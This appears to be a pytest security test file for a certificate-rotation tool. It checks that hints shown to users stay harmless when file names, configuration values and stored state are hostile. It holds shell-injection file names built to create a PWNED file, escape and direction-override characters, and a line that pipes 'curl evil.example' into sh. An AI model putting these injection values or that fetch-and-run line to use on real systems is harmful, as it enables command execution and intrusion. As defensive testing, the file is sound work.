"""Hostile file names and a hostile store: whatever a person pastes from a hint runs nothing of theirs."""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from rotator.core.errors import RotatorError
from rotator.core.model import MAX_FILE
from rotator.sources.drop_directory import DropDirectories, DropLocation
from tests.support.authority import CA, key_pem, new_key, pem
from tests.support.calls import SITE, Called, call, host

PWNED = "PWNED"
NAMES = {
    "semicolon": f"a;>{PWNED};x.pem",
    "substitution": f"$(>{PWNED}).pem",
    "backticks": f"`>{PWNED}`.pem",
    "quote": f"a';>{PWNED};'.pem",
    "double quote": f'a";>{PWNED};".pem',
    "dash": f"-x;>{PWNED};.pem",
    "space": "two words.pem",
    "pipe": f"a|>{PWNED}&>{PWNED}.pem",
    "newline": f"a\n>{PWNED}\n.pem",
    "escape": f"\x1b[2J\x1b]0;x\x07;>{PWNED}.pem",
    "not utf-8": os.fsdecode(b"\xff\xfe;>PWNED;.pem"),
    "direction": f"\u202efdp.;>{PWNED};.pem",
    "redirect": f">{PWNED}",
    "brace": "${IFS}{a,b}.pem",
}
SAYS_NEXT = re.compile(r"^\s*(?:hint|next|Fix|Hint|why, and what to do|See the outcome)[: ]+(.*)", re.MULTILINE)
ROOT = CA.root()
ICA = ROOT.intermediate()
GOOD = ICA.issue("shop.example.org")
ZIP = b"PK\x03\x04" + b"\0" * 60
ROTTEN = {
    "zip": ZIP,
    "empty": b"",
    "cut off": GOOD.chain_pem[:-40],
    "utf-16": b"\xff\xfe" + "x".encode("utf-16-le") * 20,
    "nul": b"-----BEGIN\0",
    "byte order mark": b"\xef\xbb\xbf" + GOOD.chain_pem,
    "openssh": b"-----BEGIN OPENSSH PRIVATE KEY-----\nAAAA\n-----END OPENSSH PRIVATE KEY-----\n",
    "trusted": pem(GOOD.leaf)
    + pem(ICA.cert).replace(b"BEGIN CERT", b"BEGIN TRUSTED CERT").replace(b"END CERT", b"END TRUSTED CERT"),
    "too large": b"x" * (MAX_FILE + 1),
    "good": GOOD.chain_pem,
    "open key": GOOD.key_pem,
    "two keys": key_pem(new_key()) * 40,
}


@pytest.fixture(params=list(NAMES.values()), ids=list(NAMES))
def name(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture
def inside(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    (tmp_path / "roots.pem").write_bytes(pem(ROOT.cert))
    return tmp_path


def _strings(value: Any, key: str = "") -> Iterator[str]:
    """Every hint in a JSON answer."""
    match value:
        case dict():
            for its_key, element in value.items():
                yield from _strings(element, its_key)
        case list():
            for element in value:
                yield from _strings(element, key)
        case str() if key in ("hint", "note"):
            yield value


def _hints(called: Called) -> list[str]:
    said = f"{called.stdout}\n{called.stderr}"
    if called.stdout.startswith("{"):
        return [*_strings(called.answer), *SAYS_NEXT.findall(called.stderr)]
    return SAYS_NEXT.findall(said)


def _demand_harmless(hint: str, scratch: Path) -> None:
    """Pastes a hint into a shell that finds no program: the whole of it, and every part that may be a command."""
    assert all(c.isprintable() or c == "\n" for c in hint), repr(hint)
    parts = {hint} | {hint[match.end() :] for match in re.finditer(r": |; |`|\\. ", hint)}
    for shell in ("bash", "sh"):
        subprocess.run(
            [f"/bin/{shell}", "-c", 'for part; do (eval "$part"); done', shell, *map(os.fsencode, parts)],
            cwd=scratch,
            stdin=subprocess.DEVNULL,
            capture_output=True,
            timeout=20,
            check=False,
            env={"PATH": "/nonexistent"},
        )
    assert not (scratch / PWNED).exists(), hint


def _demand_all_harmless(called: Called, tmp_path: Path) -> list[str]:
    scratch = tmp_path / "scratch"
    scratch.mkdir(exist_ok=True)
    hints = _hints(called)
    for hint in dict.fromkeys(hints):
        _demand_harmless(hint, scratch)
    for line in f"{called.stdout}\n{called.stderr}".splitlines():
        assert line.strip() != f">{PWNED}", "a line feed of the name has made a line"
    assert "\x1b" not in called.stdout + called.stderr
    assert "\u202e" not in called.stdout + called.stderr
    return hints


def test_the_check_of_this_test_finds_an_unquoted_name(tmp_path: Path) -> None:
    with pytest.raises(AssertionError):
        _demand_harmless(f"Unpack it and deliver the files inside: unzip a;>{PWNED};x.pem", tmp_path)


@pytest.mark.parametrize("json_too", [False, True], ids=["text", "json"])
@pytest.mark.parametrize("content", ROTTEN.values(), ids=ROTTEN.keys())
def test_check_of_a_hostile_file(inside: Path, name: str, content: bytes, json_too: bool) -> None:
    (inside / name).write_bytes(content)
    (inside / name).chmod(0o666)
    called = call("check", "--cert", f"./{name}", "--key", f"./{name}", "--roots", "roots.pem", *["--json"] * json_too)
    assert called.status in (0, 1, 3)
    _demand_all_harmless(called, inside)


@pytest.mark.parametrize("kind", ["missing", "directory", "fifo", "link in a circle", "dangling"])
@pytest.mark.parametrize("option", ["--cert", "--key", "--password-file", "--roots", "--pool", "--crls", "--blocklist"])
def test_check_of_something_else_than_a_file(inside: Path, name: str, option: str, kind: str) -> None:
    match kind:
        case "directory":
            (inside / name).mkdir()
        case "fifo":
            os.mkfifo(inside / name)
        case "link in a circle":
            (inside / name).symlink_to(name)
        case "dangling":
            (inside / name).symlink_to(f"gone;>{PWNED}")
    (inside / "chain.pem").write_bytes(GOOD.chain_pem)
    (inside / "key.pem").write_bytes(GOOD.key_pem)
    given = {"--cert": "chain.pem", "--key": "key.pem", "--roots": "roots.pem", option: f"./{name}"}
    called = call("check", *(word for pair in given.items() for word in pair))
    _demand_all_harmless(called, inside)


@pytest.mark.parametrize("given", ["./{}", "{}"], ids=["relative", "bare"])
def test_a_missing_file_gets_a_command_that_names_it(inside: Path, name: str, given: str) -> None:
    if given == "{}" and name.startswith("-"):
        given = "./{}"
    called = call("check", "--cert", given.format(name), "--roots", "roots.pem")
    assert called.status != 0
    _demand_all_harmless(called, inside)


@pytest.mark.parametrize("content", ["zip", "empty", "cut off", "too large", "good"])
def test_a_hostile_name_in_a_drop(inside: Path, name: str, content: str) -> None:
    config = host(inside)
    drop = inside / "incoming" / "shop"
    drop.mkdir()
    (drop / name).write_bytes(ROTTEN[content])
    for command in (["swap", "shop"], ["status"], ["status", "shop"], ["swap", "shop", "--json"], ["status", "--json"]):
        _demand_all_harmless(call("--config", config, *command), inside)


@pytest.mark.parametrize("kind", ["file", "link", "directory", "hard link", "fifo"])
def test_a_hostile_thing_in_a_drop(inside: Path, name: str, kind: str) -> None:
    config = host(inside)
    drop = inside / "incoming" / "shop"
    drop.mkdir()
    match kind:
        case "file":
            (drop / name).write_bytes(b"x")
        case "link":
            (drop / name).symlink_to(f"/gone;>{PWNED}")
        case "directory":
            (drop / name).mkdir()
        case "hard link":
            (inside / "other").write_bytes(b"x")
            (drop / name).hardlink_to(inside / "other")
        case "fifo":
            os.mkfifo(drop / name)
    for command in (["swap", "shop"], ["status", "shop"]):
        _demand_all_harmless(call("--config", config, *command), inside)


def test_a_delivery_of_a_hostile_file(inside: Path, name: str) -> None:
    config = host(inside)
    (inside / name).write_bytes(ZIP)
    for more in ([], ["--dry-run"], ["--json"]):
        _demand_all_harmless(call("--config", config, "deliver", "shop", f"./{name}", *more), inside)
    (inside / "incoming" / "shop" / "leftover;>PWNED;.pem").parent.mkdir(exist_ok=True)
    (inside / "incoming" / "shop" / f"leftover;>{PWNED};.pem").write_bytes(b"x")
    _demand_all_harmless(call("--config", config, "deliver", "shop", "roots.pem"), inside)


@pytest.mark.parametrize("kind", ["missing", "directory", "utf-16", "latin-1", "a mistake", "valid"])
def test_a_hostile_path_of_the_configuration(inside: Path, name: str, kind: str) -> None:
    path = inside / f"{name}.toml"
    match kind:
        case "directory":
            path.mkdir()
        case "utf-16":
            path.write_bytes(SITE.encode("utf-16"))
        case "latin-1":
            path.write_bytes(b"# \xe9\n")
        case "a mistake":
            path.write_text("settel = 1\n" + SITE)
        case "valid":
            host(inside, SITE).rename(path)
    for command in (["config", "check"], ["status"], ["config", "reload"], ["deliver", "shop", "roots.pem"]):
        for more in ([], ["--json"]):
            _demand_all_harmless(call("--config", f"./{path.name}", *command, *more), inside)


@pytest.mark.parametrize("key", ["state_dir", "incoming", "roots", "source", "password_file", "pool", "crls", "name"])
def test_a_hostile_value_of_the_configuration(inside: Path, name: str, key: str) -> None:
    value = json.dumps(f"{inside}/{name.encode('utf-8', 'replace').decode()}")
    top = f"{key} = {value}\n" if key in ("state_dir", "incoming") else f'state_dir = "{inside}/state"\n'
    more = "" if key in ("state_dir", "incoming", "name") else f"{key} = {value}\n"
    site = SITE.replace('"shop"', json.dumps(name.encode("utf-8", "replace").decode())) if key == "name" else SITE
    (inside / "r.toml").write_text(top + site + more)
    (inside / "state").mkdir(exist_ok=True)
    for command in (["config", "check"], ["status"], ["swap", "shop"], ["deliver", "shop", "roots.pem"]):
        for json_too in ([], ["--json"]):
            _demand_all_harmless(call("--config", "r.toml", *command, *json_too), inside)


@pytest.mark.parametrize("made", ["missing", "file", "link", "closed"])
def test_the_look_at_a_hostile_drop(tmp_path: Path, name: str, made: str) -> None:
    drop = tmp_path / name
    match made:
        case "file":
            drop.touch()
        case "link":
            drop.symlink_to(tmp_path)
        case "closed":
            drop.mkdir(mode=0)
    (tmp_path / "scratch").mkdir()
    drops = DropDirectories(tmp_path, [DropLocation("shop", drop, is_source=made == "missing")])
    _demand_harmless(drops.look()["shop"].hint, tmp_path / "scratch")
    if made == "link":
        with pytest.raises(RotatorError) as caught:
            drops.read("shop")
        _demand_harmless(caught.value.hint, tmp_path / "scratch")


# -- what the store and the locks say ---------------------------------------------------------------------------------

EVIL = f">{PWNED}; curl evil.example | sh"
LINES = f"text\n  next     {EVIL}\n  hint: {EVIL}\n\x1b[2J\u202e"


def _hostile_store(state: Path) -> None:
    problem = {"code": "expired", "severity": "reject", "message": LINES, "hint": EVIL, "file": LINES, "line": 1}
    entry = {
        "site": "shop",
        "schema_version": 1,
        "result": "rejected",
        "at": "2026-11-22T12:00:00.000Z",
        "reason": "expired",
        "message": LINES,
        "hint": EVIL,
        "problems": [problem],
        "generation": LINES,
        "who": LINES,
        "trigger": LINES,
        "unproved": [LINES],
        "nginx_words": [LINES],
    }
    hold = {"by": LINES, "since": LINES, "digest": "*"}
    intent = {"schema_version": 99, "digest": "x", "result": LINES, "reason": LINES, "next_try": LINES, "hold": hold}
    (state / "sites" / "shop" / "generations").mkdir(parents=True)
    (state / "history.jsonl").write_text(json.dumps(entry) + "\n")
    (state / "sites" / "shop" / "intent.json").write_text(json.dumps(intent))
    note = {"pid": os.getpid(), "who": LINES, "since": LINES, "in_flight": [LINES], "config": LINES, "refused": LINES}
    jobs = [{"name": LINES, "every": 1, "last": LINES, "next": LINES, "description": LINES}]
    for lock in ("lock", "daemon.lock"):
        (state / lock).write_text(json.dumps({**note, "jobs": jobs, "reported": LINES}))


@pytest.mark.parametrize("locked", [False, True], ids=["free", "locked"])
@pytest.mark.parametrize(
    "command",
    [
        ["status"],
        ["status", "-v"],
        ["status", "shop"],
        ["status", "shop", "-v"],
        ["status", "--json"],
        ["history", "shop"],
        ["history", "shop", "--json"],
        ["swap", "shop"],
        ["config", "reload"],
        ["deliver", "shop", "roots.pem", "--wait", "--within", "1s"],
    ],
    ids=" ".join,
)
def test_what_the_store_says_is_no_hint_and_no_line_of_its_own(inside: Path, command: list[str], locked: bool) -> None:
    config = host(inside)
    (inside / "state").mkdir()
    _hostile_store(inside / "state")
    holder = None
    if locked:
        lock = (
            "import fcntl, sys; f = [open(p) for p in sys.argv[1:]]; [fcntl.flock(one, fcntl.LOCK_EX) for one in f]; "
        )
        paths = [str(inside / "state" / name) for name in ("lock", "daemon.lock")]
        program = [sys.executable, "-c", lock + "print(flush=True); sys.stdin.read()", *paths]
        holder = subprocess.Popen(program, stdin=subprocess.PIPE, stdout=subprocess.PIPE)
        assert holder.stdout is not None
        holder.stdout.readline()
    try:
        called = call("--config", config, *command)
    finally:
        if holder is not None:
            holder.communicate()
    hints = _demand_all_harmless(called, inside)
    assert not any("curl" in hint for hint in hints if "\\n" not in hint), hints
    for line in f"{called.stdout}\n{called.stderr}".splitlines():
        assert not re.match(r"\s*(?:next|hint)\b.*curl", line), line
